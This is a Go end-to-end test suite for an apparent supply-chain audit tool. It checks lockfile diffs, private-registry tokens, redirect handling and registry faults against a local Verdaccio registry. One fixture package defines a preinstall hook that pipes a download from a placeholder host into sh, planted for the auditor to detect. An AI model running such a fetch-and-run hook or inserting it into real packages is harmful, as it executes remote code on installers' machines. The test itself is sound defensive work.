package e2e

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// TestVerdaccio runs everything that needs the registry.
func TestVerdaccio(t *testing.T) {
	w := newWorld(t)
	publishAll(t, w)
	t.Run("lockfiles", func(t *testing.T) { testLockfiles(t, w) })
	t.Run("another manager", func(t *testing.T) { testAnotherManager(t, w) })
	t.Run("package", func(t *testing.T) { testPackage(t, w) })
	t.Run("private scope", func(t *testing.T) { testPrivateScope(t, w) })
	t.Run("faults", func(t *testing.T) { testFaults(t, w) })
}

// preinstallLine is the line of tool 1.2.0's package.json that is blocked.
const preinstallLine = 6

// publishAll publishes the packages: lib, which depends on the tool of the same
// version, and others beside. All are harmless but for tool 1.2.0. Their
// manifests are such that npm changes them at publish, so that the registry's
// differ from the tarballs' as they legitimately do.
func publishAll(t *testing.T, w *world) {
	t.Helper()
	scripts := map[string]string{
		"1.0.0": `"test": "node cli.js"`,
		"1.1.0": `"test": "node cli.js"`,
		"1.2.0": `"preinstall": "curl -s https://files.collector.invalid/x | sh"`,
	}
	for _, version := range []string{"1.0.0", "1.1.0", "1.2.0"} {
		w.publish(t, map[string]string{
			"package.json": fmt.Sprintf(`{
  "name": "tool",
  "version": %q,
  "bin": "./cli.js",
  "repository": "acme/tool",
  "scripts": {%s}
}
`, version, scripts[version]),
			"cli.js": fmt.Sprintf("console.log(%q)\n", version),
		})
		w.publish(t, map[string]string{
			"package.json": fmt.Sprintf(`{"name": "lib", "version": "v%s", "dependencies": {"tool": "~%[1]s"},
				"optionalDependencies": {"extra": "1.0.0"}}`, version),
		})
	}
	w.publish(t, map[string]string{"package.json": `{"name": "extra", "version": "1.0.0"}`})
	for _, version := range []string{"1.0.0", "1.1.0"} {
		w.publish(t, map[string]string{
			"package.json": fmt.Sprintf(`{"name": "addon", "version": %q}`, version),
			"binding.gyp":  `{"targets": [{"target_name": "addon", "sources": ["addon.c"]}]}`,
			"addon.c":      "int addon;\n",
		})
		w.publish(t, map[string]string{"package.json": fmt.Sprintf(`{"name": "@acme/private", "version": %q}`, version)})
	}
}

// check compares an exit code and a report with what is expected.
func check(t *testing.T, r *report, res result, code int, summary ...string) {
	t.Helper()
	diff := cmp.Diff(summary, r.summary())
	if diff != "" || res.code != code || code == 0 && !r.Complete || code == 3 && r.Complete {
		t.Errorf("exit code %d, want %d; complete: %t; (-want +got)\n%s%s\n%s", res.code, code, r.Complete, diff, r.reasons(), res.stderr)
	}
}

// testLockfiles bumps lib, and with it tool, with each package manager.
func testLockfiles(t *testing.T, w *world) {
	for _, m := range w.managers(t) {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			base := w.lock(t, m, project{name: "lib", version: "1.0.0"})
			good := w.lock(t, m, project{name: "lib", version: "1.1.0", from: base})
			evil := w.lock(t, m, project{name: "lib", version: "1.2.0", from: good})

			r, res := w.auditReport(t, good, nil, "diff", "--base", base, "--head", good)
			check(t, r, res, 0,
				"lib 1.0.0 -> 1.1.0: clean",
				"tool 1.0.0 -> 1.1.0: clean")
			if len(r.Projects) != 1 || r.Projects[0].Format != m.format {
				t.Errorf("got the lockfiles %+v, want one of format %q", r.Projects, m.format)
			}

			r, res = w.auditReport(t, evil, nil, "diff", "--base", good, "--head", evil)
			check(t, r, res, 1,
				"lib 1.1.0 -> 1.2.0: clean",
				"tool 1.1.0 -> 1.2.0: block, error install-command, note install-script")
			if len(r.Versions) != 2 {
				t.FailNow()
			}
			tool := r.Versions[1]
			if tool.Direct || !slices.Equal(tool.Chain, []string{"lib@1.2.0"}) {
				t.Errorf("tool is direct: %t, and brought in by %q", tool.Direct, tool.Chain)
			}
			if e := tool.Findings[0].Evidence[0]; e.Path != "package.json" || e.Line != preinstallLine || !strings.Contains(e.Snippet, "curl") {
				t.Errorf("the evidence is %+v, want line %d of package.json", e, preinstallLine)
			}
			text := w.run(t, evil, nil, w.audit, "diff", "--base", good, "--head", evil)
			if place := fmt.Sprintf("package.json:%d", preinstallLine); text.code != 1 || !strings.Contains(text.stdout, place) {
				t.Errorf("exit code %d, want 1 and %s in\n%s", text.code, place, text.stdout)
			}

			r, res = w.auditReport(t, good, nil, "tree", good)
			check(t, r, res, 0, "extra 1.0.0: clean", "lib 1.1.0: clean", "tool 1.1.0: clean")
			r, res = w.auditReport(t, evil, nil, "tree", filepath.Join(evil, m.lockfile))
			check(t, r, res, 1, "extra 1.0.0: clean", "lib 1.2.0: clean",
				"tool 1.2.0: block, error install-command, note install-script")
		})
	}
}

// testAnotherManager bumps lib in a project that moves to another package
// manager at the same time.
func testAnotherManager(t *testing.T, w *world) {
	managers := w.managers(t)
	for i, m := range managers {
		next := managers[(i+1)%len(managers)]
		t.Run(m.name+" to "+next.name, func(t *testing.T) {
			t.Parallel()
			base := w.lock(t, m, project{name: "lib", version: "1.0.0"})
			head := w.lock(t, next, project{name: "lib", version: "1.1.0"})
			r, res := w.auditReport(t, head, nil, "diff", "--base", base, "--head", head)
			want := []string{"lib 1.0.0 -> 1.1.0: clean", "tool 1.0.0 -> 1.1.0: clean"}
			if m.ownDigests != next.ownDigests {
				// Nothing tells that the version that stayed has the same bytes.
				want = slices.Insert(want, 0, "extra 1.0.0 -> 1.0.0: clean")
			}
			check(t, r, res, 0, want...)
		})
	}
}

// testPackage audits single versions.
func testPackage(t *testing.T, w *world) {
	dir := t.TempDir()
	for _, test := range []struct {
		spec    string
		code    int
		summary string
	}{
		{"lib@1.0.0", 0, "lib 1.0.0: clean"},
		{"lib", 0, "lib 1.1.0 -> 1.2.0: clean"},
		{"tool@1.2.0", 1, "tool 1.1.0 -> 1.2.0: block, error install-command, note install-script"},
		// npm adds the build to the registry's manifest.
		{"addon@1.0.0", 0, "addon 1.0.0: clean, note install-script"},
		{"addon@1.1.0", 0, "addon 1.0.0 -> 1.1.0: clean, note install-script"},
		{"tool@9.9.9", 3, "tool 1.2.0 -> 9.9.9: warn, warning unpublished"},
	} {
		t.Run(test.spec, func(t *testing.T) {
			t.Parallel()
			r, res := w.auditReport(t, dir, nil, "package", test.spec)
			check(t, r, res, test.code, test.summary)
		})
	}
}

// testPrivateScope audits a package that only users may read.
func testPrivateScope(t *testing.T, w *world) {
	const (
		tarball      = "/@acme/private/-/private-1.1.0.tgz"
		clean        = "@acme/private 1.0.0 -> 1.1.0: clean"
		inconclusive = "@acme/private 1.0.0 -> 1.1.0: inconclusive"
	)
	npmrc := func(registry string) string {
		return "@acme:registry=" + registry + "/\n" + credential(registry, "${ACME_TOKEN}") + "\n"
	}
	// Not every package manager takes a token from the project's .npmrc.
	user := filepath.Join(t.TempDir(), "npmrc")
	write(t, user, credential(w.registry, w.token)+"\n")
	lock := func(t *testing.T, m manager) (base, head string) {
		t.Helper()
		p := project{name: "@acme/private", version: "1.0.0", npmrc: npmrc(w.registry), environ: []string{
			"ACME_TOKEN=" + w.token,
			"YARN_NPM_AUTH_TOKEN=" + w.token,
			"npm_config_userconfig=" + user,
		}}
		base = w.lock(t, m, p)
		p.version, p.from = "1.1.0", base
		return base, w.lock(t, m, p)
	}
	token := []string{"ACME_TOKEN=" + w.token}

	t.Run("token", func(t *testing.T) {
		for _, m := range w.managers(t) {
			t.Run(m.name, func(t *testing.T) {
				t.Parallel()
				base, head := lock(t, m)
				r, res := w.auditReport(t, head, token, "diff", "--base", base, "--head", head)
				check(t, r, res, 0, clean)
			})
		}
	})

	base, head := lock(t, npmManager)
	for _, test := range []struct {
		name    string
		environ []string
		stderr  string
	}{
		{"no token", nil, "uses ${ACME_TOKEN}, which is not set"},
		{"wrong token", []string{"ACME_TOKEN=wrong"}, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			r, res := w.auditReport(t, head, test.environ, "diff", "--base", base, "--head", head)
			check(t, r, res, 3, inconclusive)
			if !strings.Contains(r.reasons(), "not authorized") {
				t.Errorf("the reasons are\n%s", r.reasons())
			}
			if !strings.Contains(res.stderr, test.stderr) {
				t.Errorf("standard error lacks %q:\n%s", test.stderr, res.stderr)
			}
		})
	}

	content := w.download(t, tarball)
	t.Run("redirect", func(t *testing.T) {
		other := newOtherServer(t, content)
		p := newProxy(t, w.registry, tarball, always, fault{status: http.StatusFound, location: other.URL + "/private.tgz"})
		for _, dir := range []string{base, head} {
			write(t, filepath.Join(dir, ".npmrc"), npmrc(p.url))
		}
		r, res := w.auditReport(t, head, token, "diff", "--base", base, "--head", head)
		check(t, r, res, 0, clean)
		if got := p.received(tarball); len(got) != 1 || got[0].authorization != "Bearer "+w.token {
			t.Errorf("the registry was asked for the tarball %d times, or without the token", len(got))
		}
		if diff := cmp.Diff([]string{""}, other.received()); diff != "" {
			t.Errorf("Authorization headers elsewhere (-want +got)\n%s", diff)
		}
	})
	t.Run("address in the lockfile", func(t *testing.T) {
		other := newOtherServer(t, content)
		base, head := lock(t, w.managers(t)[1])
		name := filepath.Join(head, "package-lock.json")
		moved := strings.ReplaceAll(read(t, name), w.registry+tarball, other.URL+"/private.tgz")
		write(t, name, moved)
		r, res := w.auditReport(t, head, token, "diff", "--base", base, "--head", head)
		check(t, r, res, 0, "warning resolved-host", clean)
		if diff := cmp.Diff([]string{""}, other.received()); diff != "" {
			t.Errorf("Authorization headers elsewhere (-want +got)\n%s", diff)
		}
	})
}

// otherServer is one that is no registry: it answers everything with the same
// bytes.
type otherServer struct {
	*httptest.Server
	mu             sync.Mutex
	authorizations []string
}

func newOtherServer(t *testing.T, body []byte) *otherServer {
	s := new(otherServer)
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.authorizations = append(s.authorizations, r.Header.Get("Authorization"))
		s.mu.Unlock()
		w.Write(body)
	}))
	t.Cleanup(s.Close)
	return s
}

// received returns the Authorization headers of all requests so far.
func (s *otherServer) received() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.authorizations)
}

// download gets something from the registry with the token.
func (w *world) download(t *testing.T, path string) []byte {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, w.registry+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+w.token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("%s: %s, %v", path, resp.Status, err)
	}
	return body
}

// testFaults audits a harmless bump through a proxy that misbehaves.
func testFaults(t *testing.T, w *world) {
	const (
		packument    = "/tool"
		tarball      = "/tool/-/tool-1.1.0.tgz"
		clean        = "tool 1.0.0 -> 1.1.0: clean"
		inconclusive = "tool 1.0.0 -> 1.1.0: inconclusive"
		blocked      = "tool 1.0.0 -> 1.1.0: block, error integrity-mismatch"
		attempts     = 3
	)
	base := w.lock(t, npmManager, project{name: "tool", version: "1.0.0"})
	head := w.lock(t, npmManager, project{name: "tool", version: "1.1.0", from: base})
	for _, test := range []struct {
		name     string
		path     string
		times    int
		fault    fault
		code     int
		summary  string
		reason   string
		requests int // for the path
	}{
		{"429 once", packument, 1, fault{status: 429, retryAfter: "1"}, 0, clean, "", 2},
		{"503 twice", tarball, 2, fault{status: 503}, 0, clean, "", 3},
		{"503 always", tarball, always, fault{status: 503}, 3, inconclusive, "HTTP status 503", attempts},
		{"packument cut once", packument, 1, fault{cut: true}, 0, clean, "", 2},
		{"tarball cut once", tarball, 1, fault{cut: true}, 0, clean, "", 2},
		{"tarball always cut", tarball, always, fault{cut: true}, 3, inconclusive, "broke off", attempts},
		{"changed bytes", tarball, always, fault{change: true}, 1, blocked, "does not match the lockfile's integrity", 1},
		{"slow once", tarball, 1, fault{hang: true}, 0, clean, "", 2},
		{"slow always", tarball, always, fault{hang: true}, 3, inconclusive, "sent nothing for too long", attempts},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			p := newProxy(t, w.registry, test.path, test.times, test.fault)
			environ := []string{
				"npm_config_registry=" + p.url,
				fmt.Sprintf("npm_config_fetch_retries=%d", attempts-1),
				"npm_config_fetch_retry_mintimeout=1", // milliseconds, as the next
				"npm_config_fetch_timeout=3000",
			}
			r, res := w.auditReport(t, head, environ, "diff", "--base", base, "--head", head)
			check(t, r, res, test.code, test.summary)
			if !strings.Contains(r.reasons(), test.reason) {
				t.Errorf("the reasons lack %q:\n%s", test.reason, r.reasons())
			}
			got := p.received(test.path)
			if len(got) != test.requests {
				t.Fatalf("%d requests for %s, want %d", len(got), test.path, test.requests)
			}
			if test.fault.retryAfter == "1" && got[1].at.Sub(got[0].at) < time.Second {
				t.Errorf("it came back after %v, earlier than Retry-After allows", got[1].at.Sub(got[0].at))
			}
		})
	}
}

// TestDemo runs the README's command with the registry that is configured on
// the machine. It runs with AMALFI_TEST_NETWORK=1 only.
func TestDemo(t *testing.T) {
	if os.Getenv("AMALFI_TEST_NETWORK") != "1" {
		t.Skip("AMALFI_TEST_NETWORK is not 1")
	}
	root, err := filepath.Abs(filepath.Join("..", ".."))
	if err != nil {
		t.Fatal(err)
	}
	res := run(t, root, append(os.Environ(), "AMALFI_CACHE="+t.TempDir()), buildAudit(t),
		"diff", "--base", "testdata/demo/base", "--head", "testdata/demo/head", "--format", "json")
	r := parseReport(t, res)
	if res.code != 0 || !r.Complete || len(r.Versions) != 6 {
		t.Errorf("exit code %d, complete: %t, %d versions; want 0, true, 6\n%s\n%s\n%s",
			res.code, r.Complete, len(r.Versions), strings.Join(r.summary(), "\n"), r.reasons(), res.stderr)
	}
}
